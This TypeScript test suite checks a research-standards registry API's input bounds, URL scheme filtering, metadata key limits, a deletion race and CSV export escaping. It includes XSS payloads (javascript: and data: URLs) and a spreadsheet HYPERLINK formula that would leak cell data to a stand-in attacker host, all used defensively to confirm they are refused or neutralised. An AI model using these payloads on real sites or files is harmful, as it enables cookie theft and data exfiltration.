/**
 * Bounds of stored input (schemas/src/forms/bounds.ts) on the REST writes, against the real
 * services and the demo catalogue: an id past the int4 range, a list of 65,536 ids, text one
 * character past its maximum and ~2.8 KB of incompressible text in a name answer 400 with a
 * message and store nothing; a link saved while its target is being deleted answers 409;
 * record metadata takes only the keys its section declares, with http(s) URLs and valid
 * e-mails; stored URLs are http(s) only; CSV downloads neutralise formulas.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { INT4_MAX, MAX_IDS_PER_LIST, TEXT_MAX } from '@registry/schemas/forms/bounds.ts';
import { signUserToken } from '@registry/api/http/auth.ts';
import { seedDemoCatalogue } from '../../scripts/seed/seed-demo-catalogue.ts';
import { createIsolatedEnvironment, type IsolatedEnvironment } from '../support/environment.ts';
import { buildTestApp } from './support.ts';

let env: IsolatedEnvironment;
let app: FastifyInstance;
const tokens: Record<'user' | 'curator', string> = { user: '', curator: '' };
/** LOINC, maintained by `user` in this suite. */
const LOINC = 2;
let standardType: number;
let objectType: number;

const send = (method: 'POST' | 'PUT', url: string, who: keyof typeof tokens, payload: unknown) =>
  app.inject({ method, url, headers: { authorization: `Bearer ${tokens[who]}` }, payload: payload as Record<string, unknown> });

/** Text that no compression shortens: random CJK characters (3 bytes each in UTF-8). */
function incompressibleText(length: number): string {
  return Array.from({ length }, () => String.fromCodePoint(0x4e00 + Math.floor(Math.random() * 0x5000))).join('');
}

const generalInformation = (metadata: Record<string, unknown> = {}, fields: Record<string, unknown> = {}) => ({
  fairsharing_record: {
    metadata: { name: 'Bounds probe', homepage: 'https://bounds.example.org/', description: 'A record made to probe the bounds of every field it has.', status: 'ready', ...metadata },
    record_type_id: standardType,
    object_type_ids: [objectType],
    ...fields,
  },
});

/**
 * One write per route and field, with the value under test put in place. Curators send them,
 * so a refusal is about the value, not about who sends it.
 */
type Write = { name: string; method: 'POST' | 'PUT'; url: string; body: (value: unknown) => unknown };

const idWrites: Write[] = [
  { name: 'record type of a new record', method: 'POST', url: '/fairsharing_records', body: (id) => generalInformation({}, { record_type_id: id }) },
  { name: 'replacement of a record', method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (id) => generalInformation({ status: 'deprecated', deprecation_reason: 'probe' }, { replaced_by_id: id }) },
  { name: 'publication of a record', method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (id) => ({ fairsharing_record: { publication_ids: [id] } }) },
  { name: 'relation of a record', method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (id) => ({ fairsharing_record: { record_associations_attributes: [{ linked_record_id: id, record_assoc_label_id: 1 }] } }) },
  { name: 'organisation link', method: 'POST', url: '/organisation_links', body: (id) => ({ organisation_link: { fairsharing_record_id: LOINC, organisation_id: id } }) },
  { name: 'grant of an organisation link', method: 'POST', url: '/organisation_links', body: (id) => ({ organisation_link: { fairsharing_record_id: LOINC, organisation_id: 1, relation: 'funds', grant_id: id } }) },
  { name: 'licence link', method: 'POST', url: '/licence_links', body: (id) => ({ licence_link: { fairsharing_record_id: id, licence_id: 1 } }) },
  { name: 'claim', method: 'POST', url: '/maintenance_requests', body: (id) => ({ maintenance_request: { fairsharing_record_id: id } }) },
  { name: 'organisation type', method: 'POST', url: '/organisations', body: (id) => ({ organisation: { name: 'Probe organisation', organisation_type_ids: [id] } }) },
];

const idListWrites: Write[] = [
  { name: 'subjects of a new record', method: 'POST', url: '/fairsharing_records', body: (ids) => generalInformation({}, { subject_ids: ids }) },
  { name: 'maintainers of a record', method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (ids) => generalInformation({}, { maintainer_ids: ids }) },
  { name: 'publications of a record', method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (ids) => ({ fairsharing_record: { publication_ids: ids } }) },
  { name: 'countries of an organisation', method: 'POST', url: '/organisations', body: (ids) => ({ organisation: { name: 'Probe organisation', country_ids: ids } }) },
];

const textWrites: (Write & { max: number })[] = [
  { name: 'record name', max: TEXT_MAX.name, method: 'POST', url: '/fairsharing_records', body: (text) => generalInformation({ name: text }) },
  { name: 'record abbreviation', max: TEXT_MAX.abbreviation, method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (text) => generalInformation({ abbreviation: text }) },
  { name: 'record description', max: TEXT_MAX.description, method: 'POST', url: '/fairsharing_records', body: (text) => generalInformation({ description: text }) },
  { name: 'curator notes', max: TEXT_MAX.notes, method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (text) => generalInformation({}, { curator_notes: text }) },
  { name: 'contact name', max: TEXT_MAX.name, method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (text) => ({ fairsharing_record: { metadata: { contacts: [{ contact_name: text, contact_email: 'help@loinc.org' }] } } }) },
  { name: 'organisation name', max: TEXT_MAX.name, method: 'POST', url: '/organisations', body: (text) => ({ organisation: { name: text } }) },
  { name: 'organisation alternative name', max: TEXT_MAX.name, method: 'POST', url: '/organisations', body: (text) => ({ organisation: { name: 'Probe', alternative_names: [text] } }) },
  { name: 'grant name', max: TEXT_MAX.name, method: 'POST', url: '/grants', body: (text) => ({ grant: { name: text } }) },
  { name: 'grant description', max: TEXT_MAX.description, method: 'POST', url: '/grants', body: (text) => ({ grant: { name: 'Probe grant', description: text } }) },
  { name: 'publication title', max: TEXT_MAX.title, method: 'POST', url: '/publications', body: (text) => ({ publication: { title: text } }) },
  { name: 'publication authors', max: TEXT_MAX.description, method: 'POST', url: '/publications', body: (text) => ({ publication: { title: 'Probe', authors: text } }) },
  { name: 'publication journal', max: TEXT_MAX.name, method: 'POST', url: '/publications', body: (text) => ({ publication: { title: 'Probe', journal: text } }) },
  { name: 'licence name', max: TEXT_MAX.name, method: 'POST', url: '/licence_links', body: (text) => ({ licence_link: { fairsharing_record_id: LOINC, licence_attributes: { name: text } } }) },
  { name: 'tag', max: TEXT_MAX.name, method: 'POST', url: '/user_defined_tags', body: (text) => ({ user_defined_tag: { label: text } }) },
];

const urlWrites: Write[] = [
  { name: 'record homepage', method: 'POST', url: '/fairsharing_records', body: (url) => generalInformation({ homepage: url }) },
  { name: 'organisation homepage', method: 'POST', url: '/organisations', body: (url) => ({ organisation: { name: 'Probe organisation', homepage: url } }) },
  { name: 'publication url', method: 'POST', url: '/publications', body: (url) => ({ publication: { title: 'Probe', url } }) },
  { name: 'licence url', method: 'POST', url: '/licence_links', body: (url) => ({ licence_link: { fairsharing_record_id: LOINC, licence_attributes: { name: 'Probe licence', url } } }) },
  { name: 'support link', method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (url) => ({ fairsharing_record: { metadata: { support_links: [{ url, name: 'Help', type: 'Help documentation' }] } } }) },
  { name: 'access point', method: 'PUT', url: `/fairsharing_records/${LOINC}`, body: (url) => ({ fairsharing_record: { metadata: { access_points: [{ url, type: 'REST' }] } }, section: 'dataAccess' }) },
];

/** Rows of the tables a refused write could have touched, to show nothing was half-written. */
async function storedCounts(): Promise<Record<string, number>> {
  const tables = ['records', 'organisations', 'grants', 'publications', 'licences', 'user_defined_tags', 'organisation_links', 'licence_links', 'maintenance_requests', 'edit_events'];
  const counts: Record<string, number> = {};
  for (const table of tables) counts[table] = Number((await env.db(table).count<{ count: string }[]>('* as count'))[0].count);
  return counts;
}

beforeAll(async () => {
  env = await createIsolatedEnvironment('bounds_writes');
  await seedDemoCatalogue(env.db);
  const ids: Record<string, number> = {};
  for (const [name, role] of [['user', 'user'], ['curator', 'curator']] as const) {
    const [row] = await env.db('users').insert({ username: `${name}-bounds`, email: `${name}-bounds@example.org`, role, confirmed_at: env.db.fn.now() }).returning('id');
    ids[name] = row.id;
  }
  await env.db('record_maintainers').insert({ record_id: LOINC, user_id: ids.user });
  standardType = Number((await env.db('record_types').where({ name: 'terminology_artefact' }).first('id')).id);
  objectType = Number((await env.db('object_types').orderBy('id').first('id')).id);
  app = await buildTestApp(env.config, { db: env.db });
  for (const name of Object.keys(tokens) as (keyof typeof tokens)[]) tokens[name] = await signUserToken(app, ids[name]!);
}, 180_000);

afterAll(async () => {
  await app?.close();
  await env?.cleanup();
});

describe('ids', () => {
  it.each(idWrites)('$name: an id past the int4 range is a 400 with a message, and nothing is stored', async (write) => {
    const before = await storedCounts();
    for (const id of [INT4_MAX + 1, 2 ** 53, 0, -1]) {
      const response = await send(write.method, write.url, 'curator', write.body(id));
      expect(response.statusCode, `${id}: ${response.body}`).toBe(400);
      expect(response.json().message).toBeTruthy();
    }
    expect(await storedCounts()).toEqual(before);
  });

  it.each(idListWrites)('$name: 65,536 ids, one past the list bound, or the same id twice are a 400', async (write) => {
    const before = await storedCounts();
    const lists = [Array.from({ length: 65_536 }, (_, index) => index + 1), Array.from({ length: MAX_IDS_PER_LIST + 1 }, (_, index) => index + 1), [1, 1]];
    for (const ids of lists) {
      const response = await send(write.method, write.url, 'curator', write.body(ids));
      expect(response.statusCode, `${ids.length} ids: ${response.body.slice(0, 300)}`).toBe(400);
    }
    expect(await storedCounts()).toEqual(before);
  });
});

describe('text', () => {
  it.each(textWrites)('$name: one character past its maximum, or ~2.8 KB of incompressible text, is a 400 naming the bound', async (write) => {
    const before = await storedCounts();
    for (const text of ['x'.repeat(write.max + 1), incompressibleText(Math.max(write.max + 1, 2_800))]) {
      const response = await send(write.method, write.url, 'curator', write.body(text));
      expect(response.statusCode, response.body.slice(0, 300)).toBe(400);
      expect(response.json().message).toContain(`at most ${write.max} characters`);
    }
    expect(await storedCounts()).toEqual(before);
  });

  it('a name of exactly the maximum length, in the widest characters, is stored (the name index holds it)', async () => {
    // Lengths count UTF-16 code units, so three-byte characters make the longest UTF-8 name.
    const name = incompressibleText(TEXT_MAX.name);
    const record = await send('POST', '/fairsharing_records', 'curator', generalInformation({ name }));
    expect(record.statusCode, record.body.slice(0, 300)).toBe(201);
    const organisation = await send('POST', '/organisations', 'curator', { organisation: { name } });
    expect(organisation.statusCode, organisation.body.slice(0, 300)).toBe(201);
  });
});

describe('urls', () => {
  it.each(urlWrites)('$name: only http(s) addresses are stored', async (write) => {
    const before = await storedCounts();
    for (const url of ['javascript:alert(document.cookie)', 'data:text/html,<script>alert(1)</script>', 'ftp://files.example.org/x', `https://example.org/${'a'.repeat(TEXT_MAX.url)}`]) {
      const response = await send(write.method, write.url, 'curator', write.body(url));
      expect(response.statusCode, `${url.slice(0, 40)}: ${response.body.slice(0, 300)}`).toBe(400);
    }
    expect(await storedCounts()).toEqual(before);
  });
});

describe('record metadata', () => {
  it('takes only the keys its section declares: no forged legacy logs or citations, no unknown keys', async () => {
    const before = (await env.db('records').where({ id: LOINC }).first('metadata')).metadata;
    for (const body of [
      generalInformation({ anything: 1 }),
      { fairsharing_record: { metadata: { citations: [{ publication_id: 1 }] } }, section: 'additionalInformation' },
      { fairsharing_record: { metadata: { access_points: [{ url: 'https://api.loinc.org', secret: 1 }] } }, section: 'dataAccess' },
    ]) {
      const response = await send('PUT', `/fairsharing_records/${LOINC}`, 'user', body);
      expect(response.statusCode, JSON.stringify(body)).toBe(400);
      expect(response.json().message).toMatch(/is not a field/);
    }
    // A body with keys of several sections (FAIRsharing's whole-record shape) is split by section;
    // the field table refuses the forged legacy logs before anything is saved.
    for (const body of [
      generalInformation({ legacy_logs: [{ message: 'forged' }] }),
      { fairsharing_record: { metadata: { contacts: [{ contact_name: 'Help', contact_email: 'help@loinc.org' }], legacy_logs: [{ message: 'forged' }] } } },
    ]) {
      const response = await send('PUT', `/fairsharing_records/${LOINC}`, 'user', body);
      expect(response.statusCode, JSON.stringify(body)).toBe(403);
      expect(response.json().message).toMatch(/legacy_logs cannot be changed/);
    }
    expect((await env.db('records').where({ id: LOINC }).first('metadata')).metadata).toEqual(before);
  });

  it('checks contact e-mails and support links, and stores valid ones', async () => {
    const invalid = await send('PUT', `/fairsharing_records/${LOINC}`, 'user', { fairsharing_record: { metadata: { contacts: [{ contact_name: 'Help', contact_email: 'not-an-address' }] } } });
    expect(invalid.statusCode).toBe(400);
    const valid = await send('PUT', `/fairsharing_records/${LOINC}`, 'user', {
      fairsharing_record: { metadata: { contacts: [{ contact_name: 'Help', contact_email: 'help@loinc.org' }], support_links: [{ url: 'mailto:help@loinc.org', name: 'Help', type: 'Contact form' }] } },
    });
    expect(valid.statusCode, valid.body).toBe(200);
  });
});

describe('races', () => {
  it('a link saved while its organisation is being deleted is a 409 with a message, and nothing is stored', async () => {
    const created = await send('POST', '/organisations', 'curator', { organisation: { name: 'About to go' } });
    const organisationId = created.json().id as number;
    const links = await env.db('organisation_links').count<{ count: string }[]>('* as count');
    // The delete holds the organisation's row until it commits: the link's checks still see the
    // organisation, and its insert waits on the foreign key, then finds the row gone.
    const deleting = await env.db.transaction();
    try {
      await deleting('organisations').where({ id: organisationId }).delete();
      const linking = send('POST', '/organisation_links', 'curator', { organisation_link: { fairsharing_record_id: LOINC, organisation_id: organisationId } });
      await waitForLockWait();
      await deleting.commit();
      const response = await linking;
      expect(response.statusCode, response.body).toBe(409);
      expect(response.json().message).toMatch(/no longer exists/);
    } finally {
      if (!deleting.isCompleted()) await deleting.rollback();
    }
    expect(await env.db('organisation_links').count<{ count: string }[]>('* as count')).toEqual(links);
  });
});

/** Until some session of this database waits on a lock (the insert behind the uncommitted delete). */
async function waitForLockWait(): Promise<void> {
  for (let attempt = 0; attempt < 100; attempt += 1) {
    const { rows } = await env.db.raw<{ rows: unknown[] }>("select 1 from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'");
    if (rows.length > 0) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error('the link never waited on the delete');
}

describe('CSV downloads', () => {
  it('neutralise a record name that a spreadsheet would run as a formula, in the curators\' files and the public dump', async () => {
    const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const record = await send('POST', '/fairsharing_records', 'curator', generalInformation({ name }));
    expect(record.statusCode, record.body).toBe(201);
    const id = Number(record.json().data.id);
    await env.db('records').where({ id }).update({ is_approved: true });
    const files = await app.inject({ url: '/files/no_dois', headers: { authorization: `Bearer ${tokens.curator}` } });
    expect(files.statusCode).toBe(200);
    const row = files.body.split('\n').find((line) => line.startsWith(`${id},`));
    expect(row).toContain(`"'=HYPERLINK(`);
    expect(files.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const dump = await app.inject({ url: '/export/records.csv' });
    expect(dump.statusCode).toBe(200);
    expect(dump.body.split('\r\n').find((line) => line.startsWith(`${id},`))).toContain(`"'=HYPERLINK(`);
  });
});
